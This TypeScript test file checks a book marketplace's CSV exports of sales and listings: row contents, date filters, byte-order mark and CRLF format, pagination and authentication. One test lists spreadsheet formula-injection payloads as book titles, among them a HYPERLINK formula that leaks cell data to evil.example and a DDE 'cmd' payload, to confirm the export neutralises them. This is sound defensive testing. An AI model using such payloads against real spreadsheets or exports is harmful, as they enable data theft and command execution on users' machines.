import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listBook } from '../../testing/books/books.js';
import { changeListing } from '../../testing/books/listings.js';
import { TestMarketplace } from '../../testing/marketplace.js';
import { addToCart } from '../../testing/orders/carts.js';
import { buy, cancelOrder, placed, placeOrder, rent } from '../../testing/orders/orders.js';
import { signUpPublisher, signUpReader, type Person } from '../../testing/people/people.js';
import { RestClient } from '../../testing/restClient.js';

let marketplace: TestMarketplace;
let seller: Person;
let buyer: Person;
beforeAll(async () => {
  marketplace = await TestMarketplace.open();
});
afterAll(() => marketplace.close());

type File = 'sales' | 'listings';
const pathOf = (file: File) => `/api/v1/users/me/${file}.csv`;

async function download(file: File, headers: Record<string, string>): Promise<Response> {
  return fetch(marketplace.url + pathOf(file), { headers });
}

async function bytesOf(file: File, by = seller): Promise<string> {
  const response = await download(file, { authorization: `Bearer ${by.token}` });
  expect(response.status).toBe(200);
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
}

async function rowsOf(file: File, by = seller): Promise<Record<string, string>[]> {
  return parse(await bytesOf(file, by), { bom: true, columns: true, record_delimiter: '\r\n' });
}

describe('the sales of a seller', () => {
  beforeAll(async () => {
    seller = await signUpReader(marketplace, 'Kamala Iyer');
    buyer = await signUpReader(marketplace, 'Asha "Ash" Rao, Mumbai');
  });

  it('are one row for each line, the newest first, with the days of rentals', async () => {
    const book = await listBook(marketplace, seller, { title: 'गोदान', copies: 5 });
    const elsewhere = await listBook(marketplace, await signUpReader(marketplace));
    const bought = await buy(marketplace, buyer, book, elsewhere);
    marketplace.clock.advanceDays(1);
    const rented = await rent(marketplace, buyer, book, { months: 2 });
    marketplace.clock.advanceDays(1);
    await addToCart(marketplace, buyer, book, { quantity: 2 });
    const cancelled = placed(await placeOrder(marketplace, buyer));
    await cancelOrder(marketplace, buyer, cancelled.id);
    const common = { Buyer: 'Asha "Ash" Rao, Mumbai', Title: 'गोदान', Author: 'Munshi Premchand' };
    expect(await rowsOf('sales')).toMatchObject([
      {
        Order: cancelled.id,
        ...common,
        Quantity: '2',
        Amount: '499.00',
        Status: 'cancelled',
        Refunded: '499.00',
        Net: '0.00',
      },
      {
        Order: rented.id,
        ...common,
        Kind: 'Rental',
        From: '2026-01-16',
        To: '2026-03-16',
        'Unit Price': '49.00',
        Amount: '98.00',
        Deposit: '200.00',
        Status: 'pending',
      },
      {
        Order: bought.id,
        'Ordered At': '2026-01-15T12:00:00.000+05:30',
        ...common,
        ISBN: '9788171821136',
        Kind: 'Purchase',
        Quantity: '1',
        From: '',
        To: '',
        'Unit Price': '249.50',
        Amount: '249.50',
        Deposit: '0.00',
        Currency: 'INR',
        Status: 'pending',
        Refunded: '0.00',
        Net: '249.50',
      },
    ]);
    expect(await rowsOf('sales', buyer)).toEqual([]);
  });

  it('share what went back for lines that were ordered together', async () => {
    const publisher = await signUpPublisher(marketplace);
    for (const title of ['Gaban', 'Nirmala']) {
      await addToCart(marketplace, buyer, await listBook(marketplace, publisher, { title, copies: 2 }));
    }
    const { id } = placed(await placeOrder(marketplace, buyer));
    await cancelOrder(marketplace, buyer, id);
    const rows = await rowsOf('sales', publisher);
    expect(rows.map(({ Refunded, Net }) => [Refunded, Net])).toEqual([
      ['249.50', '0.00'],
      ['249.50', '0.00'],
    ]);
  });

  describe('from a day to a day', () => {
    let publisher: Person;
    let days: [string, string][];
    beforeAll(async () => {
      publisher = await signUpPublisher(marketplace);
      const book = await listBook(marketplace, publisher, { copies: 5 });
      days = [];
      for (let n = 0; n < 3; n += 1) {
        marketplace.clock.advanceDays(1);
        const { id } = await buy(marketplace, buyer, book);
        days.push([id, marketplace.clock.now().toISOString().slice(0, 10)]);
      }
    });

    const ask = (query: string) =>
      fetch(`${marketplace.url}${pathOf('sales')}?${query}`, {
        headers: { authorization: `Bearer ${publisher.token}` },
      });
    const ordersOf = async (query: string) => {
      const text = await (await ask(query)).text();
      const rows = parse(text, { bom: true, columns: true }) as unknown as { Order: string }[];
      return rows.map((row) => row.Order).toReversed();
    };

    it('are those of both days and of those between', async () => {
      const [[first, dayOne], [second, dayTwo], [third, dayThree]] = days as [
        [string, string],
        [string, string],
        [string, string],
      ];
      expect(await ordersOf(`from=${dayTwo}&to=${dayTwo}`)).toEqual([second]);
      expect(await ordersOf(`from=${dayTwo}`)).toEqual([second, third]);
      expect(await ordersOf(`to=${dayTwo}`)).toEqual([first, second]);
      expect(await ordersOf(`from=${dayOne}&to=${dayThree}`)).toEqual([first, second, third]);
      expect(await ordersOf('from=&to=2025-12-31')).toEqual([]);
    });

    it.each([
      ['from=tomorrow', 422, 'DATE_INVALID', 'from'],
      ['to=2026-02-30', 422, 'DATE_INVALID', 'to'],
      ['from=2026-02-01&to=2026-01-31', 422, 'DATES_REVERSED', 'to'],
      ['since=2026-01-01', 400, 'PARAMETER_UNKNOWN', ''],
    ])('are refused for %s', async (query, status, code, field) => {
      const response = await ask(query);
      expect(response.status).toBe(status);
      expect(await response.json()).toMatchObject({ code, ...(field && { field }) });
    });
  });

  it('begin with a byte order mark, and every line ends in CRLF', async () => {
    const text = await bytesOf('sales');
    expect(text.startsWith('\uFEFFOrder,Ordered At,Buyer,')).toBe(true);
    expect(text).toContain('"Asha ""Ash"" Rao, Mumbai"');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('are read page by page without loss or repeat', async () => {
    const publisher = await signUpPublisher(marketplace);
    const book = await listBook(marketplace, publisher);
    await sellOften(publisher, book, 1_203);
    const rows = await rowsOf('sales', publisher);
    expect(rows).toHaveLength(2_406);
    expect(new Set(rows.map((row) => `${row['Order']} ${row['Quantity']}`)).size).toBe(2_406);
  });

  /** Inserts `orders` orders of two lines each, in groups of seven with the same time. */
  async function sellOften(publisher: Person, bookId: string, orders: number): Promise<void> {
    await marketplace.database.query(
      `WITH placed AS (
         INSERT INTO orders (id, buyer_id, idempotency_key, street, city, state, zipcode, payment_method, currency,
                             total_amount, deposit_total, created_at)
         SELECT 'order_' || lpad(n::text, 26, '0'), $1, 'often ' || n, 's', 'c', 's', '400020', 'UPI', 'INR', 300, 0,
                '2026-01-01'::timestamptz + (n / 7) * interval '1 second'
         FROM generate_series(1, $4::int) n RETURNING id, created_at),
       fulfillments AS (
         INSERT INTO fulfillments (id, order_id, seller_id, created_at)
         SELECT 'fulfillment_' || right(id, 26), id, $2, created_at FROM placed RETURNING id)
       INSERT INTO order_items (id, fulfillment_id, book_id, title, author, type, quantity, unit_price, line_total)
       SELECT 'orderitem_' || quantity || right(id, 25), id, $3, 'Godan', 'Premchand', 'PURCHASE', quantity, 100, 100 * quantity
       FROM fulfillments CROSS JOIN generate_series(1, 2) quantity`,
      [buyer.id, publisher.id, bookId, orders],
    );
  }
});

describe('the listings of a seller', () => {
  beforeAll(async () => {
    seller = await signUpPublisher(marketplace);
  });

  it('are one row for each, under the headings that the import reads, those off the market too', async () => {
    const id = await listBook(marketplace, seller, {
      title: 'ગોદાન',
      genres: ['FICTION', 'SELF_HELP'],
      copies: 3,
    });
    await changeListing(marketplace, seller, 'takeOffBook', { bookId: id });
    expect(await rowsOf('listings')).toMatchObject([
      {
        Book: id,
        Title: 'ગોદાન',
        ISBN: '9788171821136',
        Genres: 'Fiction; Self-Help',
        Condition: 'Good',
        'Listing Type': 'both',
        'Sale Price': '249.50',
        'Rent per Month': '49.00',
        Deposit: '200.00',
        'Max Duration': '6',
        Copies: '3',
        Status: 'unlisted',
      },
    ]);
  });

  it.each([
    ['=HYPERLINK("http://evil.example?"&A1,"Click")'],
    ['+1+1'],
    ['-2+3+cmd|" /C calc"!A0'],
    ['@SUM(1+1)'],
    ['＝1+1'],
  ])('hold no formula: %s', async (title) => {
    await listBook(marketplace, seller, { title, conditionDescription: title });
    const [row] = await rowsOf('listings');
    expect(row).toMatchObject({ Title: `'${title}`, 'Condition Description': `'${title}` });
  });

  it('are as many as there are, read page by page', async () => {
    const publisher = await signUpPublisher(marketplace);
    const content = JSON.stringify(
      Array.from({ length: 2_500 }, (_, n) => ({
        title: `किताब ${n}`,
        author: 'Premchand',
        genre: 'Fiction',
        condition: 'Good',
        listingType: 'sale',
        price: { sale: 100 },
      })),
    );
    await marketplace.upload(
      'mutation ($input: ImportBooksInput!) { importBooks(input: $input) { createdCount } }',
      { input: { file: null } },
      { path: 'variables.input.file', content, name: 'books.json', type: 'application/json' },
      publisher.token,
    );
    const titles = (await rowsOf('listings', publisher)).map((row) => row['Title']);
    expect(titles).toHaveLength(2_500);
    expect(new Set(titles).size).toBe(2_500);
  });
});

describe.each<File>(['sales', 'listings'])('GET %s.csv', (file) => {
  it('is for signed-in viewers, by token or cookie', async () => {
    const rest = await RestClient.of(marketplace);
    expect(await rest.get(pathOf(file))).toMatchObject({ status: 401, body: { code: 'UNAUTHENTICATED' } });
    const byCookie = await download(file, { cookie: `panna_session=${seller.token}` });
    expect(byCookie.status).toBe(200);
    expect(byCookie.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(byCookie.headers.get('content-disposition')).toBe(`attachment; filename="${file}.csv"`);
    expect(byCookie.headers.get('cache-control')).toBe('no-store');
    await byCookie.arrayBuffer();
  });
});
